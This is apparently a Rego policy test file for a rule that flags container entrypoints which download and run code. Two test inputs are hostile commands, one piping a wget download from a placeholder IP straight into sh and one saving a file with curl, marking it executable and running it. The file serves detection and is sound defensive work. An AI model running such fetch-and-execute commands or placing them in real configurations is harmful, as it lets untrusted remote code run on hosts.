package rummage.config.download_entrypoint_test

import data.rummage.config.download_entrypoint as rule

started(cmd) := {"entrypoint": ["/bin/sh", "-c"], "cmd": [cmd]}

test_fires_on_a_pipe_to_a_shell if {
	count(rule.findings) == 1 with input.config as started("wget -q -O- http://198.51.100.7/x.sh | sh")
}

test_fires_on_a_saved_program if {
	count(rule.findings) == 1 with input.config as started("curl -so /tmp/m http://198.51.100.7/m; chmod +x /tmp/m; /tmp/m")
}

test_silent_on_a_wait_for_a_service if {
	count(rule.findings) == 0 with input.config as started("until curl -s http://db:8080/; do sleep 1; done; exec /app")
}

test_silent_on_a_download_of_data if {
	count(rule.findings) == 0 with input.config as started("wget -O /data/model.bin https://example.invalid/m; exec /app")
}
